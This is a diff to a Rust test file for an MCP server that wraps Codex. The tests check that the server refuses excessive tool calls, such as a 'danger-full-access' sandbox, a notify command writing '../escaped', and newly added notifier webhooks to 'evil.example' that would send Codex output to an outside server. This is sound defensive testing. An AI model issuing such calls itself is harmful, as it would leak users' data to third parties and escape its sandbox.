@@ -7,6 +7,7 @@ use serde_json::{Value, json};
 use testkit::{Home, Launch, McpClient};
 
 use crate::jobs::Worker;
+use crate::notify::fake_web::{Answer, WebServer};
 
 const VERSION: &str = "2025-06-18";
 
@@ -80,7 +81,7 @@ fn words(result: &Value) -> &str {
 
 /// Excessive calls: the tool, its arguments except the required ones, and the setting that refuses
 /// the call.
-const EXCESSIVE_CALLS: [(&str, &str, &str); 21] = [
+const EXCESSIVE_CALLS: [(&str, &str, &str); 23] = [
     (
         "codex",
         r#"{"sandbox": "danger-full-access"}"#,
@@ -171,6 +172,16 @@ const EXCESSIVE_CALLS: [(&str, &str, &str); 21] = [
         r#"{"notify": ["command:touch ../escaped"]}"#,
         "allow_commands",
     ),
+    (
+        "call_codex",
+        r#"{"notify": ["webhook:https://evil.example/x"]}"#,
+        "the notifier webhook:",
+    ),
+    (
+        "codex_run",
+        r#"{"notify": ["mail:lead", "ntfy:evil"]}"#,
+        "the notifier ntfy:",
+    ),
 ];
 
 /// The arguments of a call, with those that the tool requires.
@@ -249,6 +260,27 @@ async fn same_calls_work_without_bounds() {
     let result = client.call_tool("codex_run", run).await;
     assert!(stage.has_escaped(), "{result:#}");
     assert!(client.finish().await.success());
+}
+
+/// A client that is misled sends what Codex says to a server of somebody else, or a request into
+/// the network around the machine.
+#[tokio::test]
+async fn client_does_not_choose_servers_under_the_bound() {
+    for (args, reached) in [(&[][..], 2), (&["--no-commands"][..], 0)] {
+        let server = WebServer::start(Answer::ok()).await;
+        let stage = BoundsFixture::new(testkit::codex::newest(), "").await;
+        let mut client = stage.client(args).await;
+        let run = json!({
+            "task": "x", "sandbox": "read-only", "max_turns": 1, "wait_ms": 60_000,
+            "notify": [
+                format!("webhook:{}", server.url("http", "x")),
+                format!("ntfy:{}", server.url("http", "x")),
+            ],
+        });
+        let result = client.call_tool("codex_run", run).await;
+        assert_eq!(server.requests().len(), reached, "{result:#}");
+        assert!(client.finish().await.success());
+    }
 }
 
 #[tokio::test]
